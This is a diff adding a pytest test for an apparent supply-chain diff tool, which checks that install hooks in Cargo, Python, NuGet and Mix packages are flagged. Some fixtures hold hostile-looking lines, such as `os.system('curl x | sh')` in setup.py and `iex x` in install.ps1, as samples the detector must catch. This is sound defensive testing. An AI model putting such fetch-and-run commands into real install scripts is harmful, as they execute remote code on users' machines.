@@ -290,3 +290,46 @@ def test_native_binaries_are_told_by_content_not_name():
     assert supply.native_kind(b"\0asm\x01\0\0\0") == "a WebAssembly module"
     assert supply.native_kind(b"\xca\xfe\xba\xbe\0\0\0\x41") is None
     assert supply.native_kind(b"MZ not a pe") is None
+
+
+CRATE = '[package]\nname = "demo"\nversion = "1.0.0"\n'
+PYPROJECT = ('[project]\nname = "demo"\nversion = "1"\n[build-system]\nrequires = ["setuptools"]\n'
+             'build-backend = "setuptools.build_meta"\n')
+NUSPEC = '<?xml version="1.0"?><package><metadata><id>Demo</id><version>1.0.0</version></metadata></package>'
+MIX_PROJECT = 'defmodule Demo.MixProject do\n  use Mix.Project\n  def project do\n    [app: :demo, version: "1.0.0"{}]\n  end\nend\n'
+BUILD_RS = "fn main() {}\n"
+
+
+@pytest.mark.parametrize(("old", "new", "expected"), [
+    ({"Cargo.toml": CRATE}, {"Cargo.toml": CRATE, "build.rs": BUILD_RS},
+     [("installHook", "build.rs", "build.rs added"), ("layout", "build.rs", "a new file at the top level")]),
+    ({"Cargo.toml": CRATE, "build.rs": BUILD_RS}, {"Cargo.toml": CRATE, "build.rs": 'fn main() { run("curl") }\n'},
+     [("installHook", "build.rs", "build.rs changed")]),
+    ({"Cargo.toml": CRATE, "gen.rs": BUILD_RS}, {"Cargo.toml": CRATE + 'build = "gen.rs"\n', "gen.rs": BUILD_RS},
+     [("installHook", "gen.rs", "gen.rs now runs")]),
+    ({"pyproject.toml": PYPROJECT}, {"pyproject.toml": PYPROJECT.replace("setuptools.build_meta", "hatchling.build")},
+     [("installHook", "pyproject.toml", "build-system.build-backend changed: setuptools.build_meta -> hatchling.build")]),
+    ({"pyproject.toml": PYPROJECT}, {"pyproject.toml": PYPROJECT, "setup.py": "import os\n"},
+     [("installHook", "setup.py", "setup.py added"), ("layout", "setup.py", "a new file at the top level")]),
+    ({"pyproject.toml": PYPROJECT, "setup.py": "import os\n"},
+     {"pyproject.toml": PYPROJECT, "setup.py": "import os\nos.system('curl x | sh')\n"},
+     [("installHook", "setup.py", "setup.py changed")]),
+    ({"Demo.nuspec": NUSPEC}, {"Demo.nuspec": NUSPEC, "build/Demo.targets": "<Project />"},
+     [("installHook", "build/Demo.targets", "build/Demo.targets added"), ("layout", "build/", "a new top-level directory")]),
+    ({"Demo.nuspec": NUSPEC, "tools/install.ps1": "Write-Host hi"}, {"Demo.nuspec": NUSPEC, "tools/install.ps1": "iex x"},
+     [("installHook", "tools/install.ps1", "tools/install.ps1 changed")]),
+    ({"mix.exs": MIX_PROJECT.format("")}, {"mix.exs": MIX_PROJECT.format(", compilers: [:rustler] ++ Mix.compilers()")},
+     [("installHook", "mix.exs", "project.compilers added: [:rustler] ++ Mix.compilers()")]),
+], ids=["cargo-build-rs-added", "cargo-build-rs-changed", "cargo-package-build", "pep517-backend", "setup-py-added",
+        "setup-py-changed", "nuget-targets", "nuget-install-ps1", "mix-compilers"])
+def test_each_ecosystems_install_hook_is_found_and_identical_builds_flag_nothing(tmp_path, old, new, expected):
+    """Cargo's build script (added, changed, newly named), a PEP 517 backend change, setup.py added
+    or changed, NuGet build targets and install scripts, Mix compilers: each is an install-hook
+    finding on the path to look at; the new build compared with itself gives none."""
+    a = Side(DictEntry(tmp_path / "a", {k: v.encode() for k, v in old.items()}))
+    b = Side(DictEntry(tmp_path / "b", {k: v.encode() for k, v in new.items()}))
+    found = supply.compute(a, b, manifests.read(a), manifests.read(b))
+    assert [(f["kind"], f["path"]) for f in found] == [(kind, path) for kind, path, _ in expected]
+    assert all(f["reason"].startswith(reason) for f, (_, _, reason) in zip(found, expected, strict=True))
+    same = Side(DictEntry(tmp_path / "c", {k: v.encode() for k, v in new.items()}))
+    assert supply.compute(same, b, manifests.read(same), manifests.read(b)) == []
